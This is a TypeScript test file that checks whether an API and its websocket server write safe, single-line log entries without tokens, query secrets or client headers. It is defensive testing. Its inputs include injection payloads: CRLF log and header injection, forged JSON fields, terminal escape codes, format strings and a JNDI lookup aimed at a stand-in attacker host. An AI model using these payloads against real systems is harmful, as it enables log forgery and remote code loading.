import { describe, expect, onTestFinished, test } from 'vitest';
import { startApi } from '../support/http.ts';
import { LiveClient } from '../support/live-client.ts';
import { startLive } from '../support/live.ts';
import { rawRequest, sendRaw } from '../support/raw-http.ts';
import { eventually } from '../support/waiting.ts';

const FRESH = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[\da-f]{4}-[\da-f]{12}$/;

/** Sends requests and gives the log lines they left, one for each. */
async function linesOf(requests: readonly (readonly [path: string, headers?: string[]])[]) {
  const api = await startApi();
  const answers = [];
  for (const [path, headers] of requests)
    answers.push(await sendRaw(api.base, rawRequest('GET', path, headers)));
  await eventually(() => api.logLines.length >= requests.length);
  const lines = api.logLines.map((line) => {
    // One line, and nothing in it that a terminal or a log viewer would act upon.
    expect(line).toMatch(/^[\x20-\x7e]*\n$/);
    return JSON.parse(line) as Record<string, unknown>;
  });
  expect(lines).toHaveLength(requests.length);
  return { answers, lines };
}

describe('a log line', () => {
  test.each([
    ['line breaks', '/x%0d%0a{"level":60}'],
    ['line separators', '/x%E2%80%A8%E2%80%A9'],
    ['a quote and fields of its own', '/x","userId":"root","msg":"request'],
    ['terminal sequences', '/x%1b[2J%9b31m'],
    ['percent signs and formats', '/%s%d%j%o%n'],
    ['lookups', '/${jndi:ldap://evil.example/a}'],
    ['a query with secrets', '/x?password=in-the-query&token=in-the-query'],
    ['a fragment of a query', '/x?a=1?token=in-the-query'],
    ['8,000 characters', `/${'x'.repeat(8_000)}`],
  ])('holds a path with %s, and is one line', async (_, path) => {
    const { lines } = await linesOf([[path]]);
    expect(lines[0]).toMatchObject({ msg: 'request', method: 'GET', userId: null, level: 30 });
    expect(path.startsWith(lines[0]!['path'] as string)).toBe(true);
    expect(JSON.stringify(lines)).not.toContain('in-the-query');
    expect((lines[0]!['path'] as string).length).toBeLessThanOrEqual(256);
  });

  test('takes over no request id but a sound one, and neither does the answer', async () => {
    const wrong = [
      '',
      ' ',
      'a b',
      'a,b',
      'a\tb',
      '"}',
      '<script>',
      'ü',
      '%0d%0aX-Injected: 1',
      'x'.repeat(129),
      '{"a":1}',
    ];
    const { answers, lines } = await linesOf(wrong.map((id) => ['/x', [`X-Request-Id: ${id}`]] as const));
    for (const [n, { headers }] of answers.entries()) {
      expect(headers['x-request-id']).toMatch(FRESH);
      expect(lines[n]).toMatchObject({ correlationId: headers['x-request-id'] });
      expect(headers).not.toHaveProperty('x-injected');
    }
    const twice = await linesOf([['/x', ['X-Request-Id: a', 'X-Request-Id: b']]]);
    expect(twice.answers[0]!.headers['x-request-id']).toMatch(FRESH);
  });

  test('holds no header of the client', async () => {
    const names = [
      'User-Agent',
      'Referer',
      'Cookie',
      'Authorization',
      'X-Api-Key',
      'X-Forwarded-For',
      'Origin',
      'Accept',
    ];
    const { lines } = await linesOf([['/x', names.map((name) => `${name}: marked-by-the-client`)]]);
    expect(JSON.stringify(lines)).not.toContain('marked-by-the-client');
  });
});

describe('log lines of sockets', () => {
  test('hold neither tokens nor what clients say', async () => {
    const live = await startLive();
    const { token } = await live.newUser();
    for (const url of [`/ws?token=${token}`, `/ws?token=said-by-the-client`, `/elsewhere?token=${token}`]) {
      const client = new LiveClient(live.base + url, { headers: { 'user-agent': 'said-by-the-client' } });
      onTestFinished(() => client.close());
      if (url.includes(`/ws?token=${token}`)) {
        await client.message('connected');
        client.send({ type: 'said-by-the-client', jobId: 'said-by-the-client\n{"level":60}' });
        client.send('said-by-the-client');
        await eventually(() => client.messages.filter(({ type }) => type === 'error').length === 2);
        await client.close();
      }
      await client.closed.catch(() => undefined);
    }
    await eventually(() => live.logLines.filter((line) => /"msg":"websocket/.test(line)).length === 3);
    const text = live.logLines.join('');
    expect(text).not.toContain(token);
    expect(text).not.toContain('said-by-the-client');
    for (const line of live.logLines) expect(line).toMatch(/^[\x20-\x7e]*\n$/);
  });
});
